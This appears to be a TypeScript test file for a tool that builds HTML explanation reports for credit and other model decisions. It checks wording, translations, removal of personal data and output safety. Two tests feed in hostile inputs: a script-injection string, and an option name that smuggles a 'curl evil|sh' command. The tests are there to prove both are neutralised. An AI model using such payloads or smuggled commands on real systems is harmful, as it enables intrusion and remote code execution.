import { expect, test } from 'vitest';
import { languages, loadLanguage } from '../../../src/catalogue/languages.ts';
import type { Card } from '../../../src/data/card.ts';
import { parseCounterfactual } from '../../../src/records/counterfactual.ts';
import { parseReasons } from '../../../src/records/reasons.ts';
import type { Explanation } from '../../../src/records/record.ts';
import { recordId } from '../../../src/records/record-id.ts';
import { makeReport, type ReportOptions } from '../../../src/report/make.ts';
import { nextEntry } from '../../../src/store/log.ts';
import { credit, image, insult, many, penguins, regression } from '../charts/fixtures.ts';
import { whole } from '../charts/whole/fixtures.ts';

const made = new Date('2026-11-30T12:00:00Z');
const sealed = async (record: Explanation): Promise<Explanation> => ({ ...record, id: await recordId(record) });

async function report(record: Explanation, options: Partial<ReportOptions> = {}): Promise<string> {
  const language = options.language ?? (await loadLanguage(['en']));
  return makeReport([await sealed(record)], { made, ...options, language });
}

/** What is read: without head, markup and data. */
const words = (text: string): string =>
  text
    .replace(/<head>[\s\S]*<\/head>|<script[\s\S]*?<\/script>|<svg[\s\S]*?<\/svg>/g, '')
    .replace(/<\/?(?:bdi|strong|span|code)[^>]*>/g, '')
    .replace(/<[^>]*>/g, ' ')
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&')
    .replace(/[\s\u00a0\u202f]+/g, ' ');

const columns = credit.input.kind === 'tabular' ? credit.input.columns : [];
const cells = credit.input.kind === 'tabular' ? (credit.input.values ?? []) : [];
const numeric = columns[cells.findIndex((cell) => typeof cell === 'number')];
const card: Card = {
  ...{ schema: 'oriel.card/1', name: 'Credit risk', task: 'binary', classes: ['bad', 'good'], threshold: 0.5 },
  ...{ input: { kind: 'tabular' }, whoDecides: 'a person at the credit desk', protected: [columns[1]] },
  features: [...columns, 'postcode'].map((name) => ({ name, kind: 'numeric' as const, label: `The ${name}` })),
};

/** An entry of a log, after six others. */
const logged = (record: Explanation, text: string) =>
  nextEntry(
    { schema: 'oriel.log/1', kind: 'note', n: 6, time: '2026-11-30T09:00:00Z', previous: '', hash: 'a'.repeat(64) },
    { kind: 'explanation', record, text },
    Date.parse('2026-11-30T10:00:00Z'),
  );

test('the person is told the decision, who decides, the reasons, the data and the rights', async () => {
  const text = words(
    await report(credit, {
      card,
      ...{ decision: 'Your credit was declined', date: '2026-11-28', contact: 'Desk 5', reference: 'A-17' },
    }),
  );
  for (const said of [
    'Your credit was declined',
    'November 28, 2026',
    'A-17',
    'Who decides: a person at the credit desk.',
    'counted most',
    'Not given to the model: The postcode.',
    'How sure this explanation is',
    'This was not worked out for this report. You can ask for it.',
    'Desk 5',
    'Have data corrected',
    'Have the decision reviewed',
  ])
    expect(text).toContain(said);
});

test('the auditor is told hashes, card, method, values, checks, protected columns, groups, log and command', async () => {
  const record = await sealed({
    ...credit,
    fidelity: { deletion: [[0.8, 0.3, 0.2]], deletionArea: [0.4], insertion: [[0.2, 0.7, 0.8]], insertionArea: [0.6] },
  });
  const inspection = { ...whole, model: { ...whole.model, sha256: record.model.sha256 } };
  const entry = await logged(record, 'of row 3');
  const ranges = {
    file: 'all.csv',
    columns: [{ name: numeric, range: [1e6, 2e6] as [number, number], levels: null }],
  };
  const html = await makeReport([record], {
    ...{ card, inspection, ranges, log: [entry], made, language: await loadLanguage(['en']) },
  });
  const text = words(html);
  for (const said of [
    record.model.sha256,
    record.input.sha256,
    record.background?.sha256 ?? '',
    record.id,
    'Credit risk',
    record.explainer.name,
    'Area under the deletion curve',
    'Together they carry',
    '1 value lies outside',
    'Area under the ROC curve',
    'number 7: explanation',
    entry.hash,
    `oriel explain --model MODEL --data DATA.csv`,
    'Limits of the method',
    'no legal advice',
    '12 CFR 1002.9(b)(2)',
    'Article 86(1)',
    'C-203/22',
    '2023/2225',
  ])
    expect(text).toContain(said);
});

test.each(Object.keys(languages))('in %s, it never says that a law is followed', async (tag) => {
  const text = words(await report(credit, { card, language: await loadLanguage([tag]) }));
  expect(text).not.toMatch(/\bcompl(y|ies|iant|iance)\b|konform|Einklang|erfüllt|rechtmäßig/i);
  expect(text).not.toMatch(/\bconforme|\bcumpl(e|en|imiento)\b|respecte la loi|يمتثل|متوافق|ممتثل/i);
});

const others = Object.keys(languages).filter((tag) => tag !== 'en');
test.each(others)('reports in %s are in that language, of rows, photos, texts, classes and numbers', async (tag) => {
  const language = await loadLanguage([tag]);
  const title = language.say('report.used.title').replace(/[\s\u00a0\u202f]+/g, ' ');
  for (const record of [credit, image, insult, penguins, regression, many]) {
    const html = await report(record, { language });
    expect(html).toContain(`<html lang="${tag}" dir="${language.direction}">`);
    expect(html).toContain('@page');
    expect(words(html)).toContain(title);
    expect(words(html)).not.toMatch(/\b(the|undefined|NaN|null)\b|\[object/);
  }
});

test('reasons and ways of the same row are told, those of others are not', async () => {
  const record = await sealed(credit);
  const values = record.input.kind === 'tabular' ? (record.input.values ?? []) : [];
  const reasons = parseReasons({
    ...{ schema: 'oriel.reasons/1', decision: { class: 'bad', share: 0.7, threshold: 0.5 }, raising: true },
    reference: { kind: 'approved', rows: 100 },
    reasons: [
      {
        name: columns[0],
        columns: [columns[0]],
        toward: 0.2,
        error: null,
        values: [48],
        typical: [18],
        protected: false,
      },
    ],
    explanation: { ...record, outputs: [record.outputs[0]] },
  });
  const way = parseCounterfactual({
    ...{ schema: 'oriel.counterfactual/1', id: 'a', created: record.created, model: record.model },
    input: { sha256: record.input.sha256, columns, values, row: 1 },
    ...{ outputs: record.outputs, modelOutput: record.modelOutput },
    target: { kind: 'class', class: 'bad', from: 'good', threshold: 0.5 },
    limits: { changed: 1, columns: [], together: [], plausible: false },
    ...{ method: 'trees', proof: 'nearest', bound: null, seed: 0, calls: 1, stopped: 'done', milliseconds: 1 },
    ways: [
      {
        ...{ changed: 1, distance: 1, values, output: record.modelOutput, nearest: true, unusual: null },
        changes: [{ column: columns[0], from: 48, to: 24 }],
      },
    ],
    ...{ backend: record.backend, runtime: 'r', engine: 'e' },
  });
  const text = words(await report(credit, { card, reasons: [reasons], counterfactuals: [way] }));
  expect(text).toContain('Here: 48. Usual among those compared with: 18.');
  expect(text).toContain('were 24 instead of 48');
  expect(text).toContain('the 100 cases with another result that are nearest to the line');
  const other = { ...way, input: { ...way.input, sha256: 'f'.repeat(64) } };
  expect(words(await report(credit, { card, counterfactuals: [other] }))).not.toContain('were 24 instead of 48');
});

const HOSTILE = `<img src=x onerror="alert(1)"></script><script>alert('&amp;')</script><!--\u202e]]>`;

test('markup in names and texts stays text, and nothing leads out of the file', async () => {
  const input = { ...credit.input, columns: [HOSTILE, ...columns.slice(1)] };
  const record = {
    ...credit,
    input,
    players: [HOSTILE, ...credit.players.slice(1)],
    model: { ...credit.model, name: HOSTILE },
  } as Explanation;
  const texts = { ...insult, input: { ...insult.input, text: HOSTILE } } as Explanation;
  for (const one of [record, texts, { ...image, input: { ...image.input, file: HOSTILE } } as Explanation]) {
    const given = { decision: HOSTILE, contact: HOSTILE, reference: HOSTILE };
    const html = await report(one, { ...given, card: { ...card, name: HOSTILE, whoDecides: HOSTILE, note: HOSTILE } });
    expect(html).not.toContain('<img');
    expect(html.match(/<script/g)).toHaveLength(2);
    expect(html.match(/<\/script>/g)).toHaveLength(2);
    expect(html.match(/<!--/g)).toBeNull();
    expect(words(html)).toContain('<img src=x onerror="alert(1)">');
    const outside = html.replace(/<script[\s\S]*?<\/script>/g, '').replaceAll('http://www.w3.org/2000/svg', '');
    expect(outside).not.toMatch(/<[^>]*\s(?:src|href|srcset|action)\s*=\s*"(?!data:)/);
    expect(outside).not.toMatch(/url\((?!#)|@import|<link|<iframe|<object|<form/);
  }
});

test('without the data, nothing that was explained is left in the file', async () => {
  const secret = { ...credit.input, values: columns.map((_, at) => 70_000 + at) } as Explanation['input'];
  const html = await report({ ...credit, input: secret }, { card, withoutInput: true });
  expect(html).not.toMatch(/70[,.\u202f]?00\d/);
  expect(html).toContain(credit.input.sha256);
  expect(words(html)).toContain('The data have been taken out of this copy');
  const text = await report(insult, { withoutInput: true });
  for (const word of insult.players.filter((player) => player.length > 3))
    expect(words(text)).not.toContain(`“${word}”`);
  // Entries of a log name the row or the file.
  const entry = await logged(credit, 'of anna-mueller.jpg');
  expect(await report(credit, { log: [entry] })).toContain('anna-mueller');
  expect(await report(credit, { log: [entry], withoutInput: true })).not.toContain('anna-mueller');
  const picture = await report(image, { withoutInput: true });
  expect(picture).not.toContain('data:image');
});

test('the command repeats the record alone, whatever stands in it', async () => {
  const options = { discretize: false, kernelWidth: 2.5, 'x; curl evil|sh #': 'y' };
  const html = await report({ ...penguins, explainer: { ...penguins.explainer, name: 'lime', options } }, { card });
  const text = /The command that repeats it.*This checks/s.exec(words(html))?.[0] ?? '';
  expect(text).toContain('--discretize=false --kernel-width 2.5');
  expect(text).not.toContain('curl evil');
  for (const output of penguins.outputs) expect(text).toContain(`--output ${output}`);
  expect(text).not.toContain('--output all');
});

test('several records are told one after the other', async () => {
  const records = [await sealed(credit), await sealed(penguins)];
  const text = words(await makeReport(records, { made, language: await loadLanguage(['en']) }));
  expect(text).toContain('Explanation 1 of 2');
  expect(text).toContain('Explanation 2 of 2');
});
